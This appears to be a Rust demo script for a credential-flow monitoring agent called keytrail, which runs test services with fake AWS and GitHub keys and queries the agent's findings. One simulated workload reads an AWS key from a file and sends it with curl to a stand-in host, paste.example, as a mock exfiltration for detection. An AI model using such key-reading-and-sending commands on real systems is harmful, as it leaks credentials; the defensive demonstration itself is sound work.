//! Demonstrates the main job on real processes: three workloads, two server names, one unexpected
//! key.

use crate::build;
use anstyle::{AnsiColor, Style};
use anyhow::{Result, bail};
use indicatif::{ProgressBar, ProgressStyle};
use lab::{
    agent::Agent,
    server::TlsServer,
    workload::{TestUnit, aws_credentials},
};
use std::{
    io::{IsTerminal as _, Write as _},
    process::Command,
    time::Duration,
};

const TITLE: Style = AnsiColor::Cyan.on_default().bold();
const FAINT: Style = Style::new().dimmed();

/// Obviously fake, in the right format.
const KEY_ID: &str = "AKIAFAKEDEMOFAKEDEMO";
const SECRET: &str = "FAKE/demo/secret/FAKE/demo/secret/FAKEFAKE";
const TOKEN: &str = "ghp_FAKEdemoFAKEdemoFAKEdemoFAKEdemoFAKE";

pub fn run() -> Result<()> {
    if !lab::is_root() {
        bail!(
            "the demo attaches probes to the kernel and needs root: run it as `sudo -E cargo xtask demo`"
        );
    }
    build::run()?;
    let directory = tempfile::tempdir()?;
    let progress = spinner("starting the agent with its defaults");
    let agent = Agent::start(directory.path(), &[])?;
    let server = TlsServer::start("127.0.0.1")?;
    progress.finish_and_clear();
    title("The story");
    let key = aws_credentials(directory.path(), KEY_ID, SECRET)?;
    let key = key.display().to_string();
    let port = server.address.port();
    // The key goes from the file to the client as in any script with curl.
    let with_key = |host: &str| {
        format!(
            "id=$(sed -n 's/^aws_access_key_id *= *//p' '{key}'); secret=$(sed -n 's/^aws_secret_access_key *= *//p' '{key}'); \
             curl --silent --show-error --insecure --aws-sigv4 aws:amz:eu-central-1:s3 --user \"$id:$secret\" \
             --connect-to ::127.0.0.1:{port} https://{host}/"
        )
    };
    let payments = TestUnit::new("payments.service")?;
    let reports = TestUnit::new("reports.service")?;
    let ci = TestUnit::new("ci.service")?;
    narrate(
        "payments.service reads an AWS key from a file and calls s3.eu-central-1.amazonaws.com",
    );
    payments.sh(&with_key("s3.eu-central-1.amazonaws.com"), &[])?;
    narrate("reports.service reads the same key and sends it to paste.example");
    reports.sh(&with_key("paste.example"), &[])?;
    narrate("ci.service has a GitHub token in its environment and calls api.github.com");
    ci.sh(
        &format!(
            "curl --silent --show-error --insecure --header \"Authorization: Bearer $GITHUB_TOKEN\" \
             --connect-to ::127.0.0.1:{port} https://api.github.com/"
        ),
        &[("GITHUB_TOKEN", TOKEN)],
    )?;
    agent.await_json(&["query", "where", &key], |answer| {
        answer["hops"]
            .as_array()
            .is_some_and(|hops| hops.len() >= 2)
    })?;
    agent.await_json(&["query", "where", "env:GITHUB_TOKEN"], |answer| {
        answer["hops"]
            .as_array()
            .is_some_and(|hops| !hops.is_empty())
    })?;
    show(&agent, &["findings"])?;
    show(&agent, &["query", "where", &key])?;
    show(&agent, &["query", "blast-radius", "reports.service"])?;
    show(&agent, &["inventory"])?;
    title("The metrics that moved");
    let (_, metrics) = agent.get("/metrics")?;
    for line in metrics.lines().filter(|line| {
        [
            "keytrail_hops_total",
            "keytrail_findings_total",
            "keytrail_credential_uses_total",
            "keytrail_events_lost_total",
        ]
        .iter()
        .any(|family| line.starts_with(family))
            && !line.ends_with(" 0")
    }) {
        anstream::println!("{line}");
    }
    let lost = agent.metric("keytrail_events_lost_total", &[])?;
    anstream::println!("{FAINT}events lost: {lost}{FAINT:#}");
    drop(agent);
    anstream::println!("\n{FAINT}Everything that was started is stopped again.{FAINT:#}");
    Ok(())
}

/// Prints a command and its output.
fn show(agent: &Agent, arguments: &[&str]) -> Result<()> {
    title(&format!("keytrail {}", arguments.join(" ")));
    let mut command = Command::new(lab::agent::binary()?);
    command
        .args(arguments)
        .arg("--state-dir")
        .arg(&agent.state_dir);
    if std::io::stdout().is_terminal() {
        command.env("CLICOLOR_FORCE", "1");
    }
    let output = command.output()?;
    anstream::stdout().write_all(&output.stdout)?;
    if !output.status.success() {
        bail!(
            "`keytrail {}` failed: {}",
            arguments.join(" "),
            String::from_utf8_lossy(&output.stderr)
        );
    }
    Ok(())
}

fn title(text: &str) {
    anstream::println!("\n{TITLE}▌ {text}{TITLE:#}");
}

fn narrate(text: &str) {
    anstream::println!("  {text}");
}

fn spinner(text: &'static str) -> ProgressBar {
    let bar = ProgressBar::new_spinner();
    if let Ok(style) = ProgressStyle::with_template("{spinner} {msg} {elapsed}") {
        bar.set_style(style);
    }
    bar.set_message(text);
    bar.enable_steady_tick(Duration::from_millis(100));
    bar
}
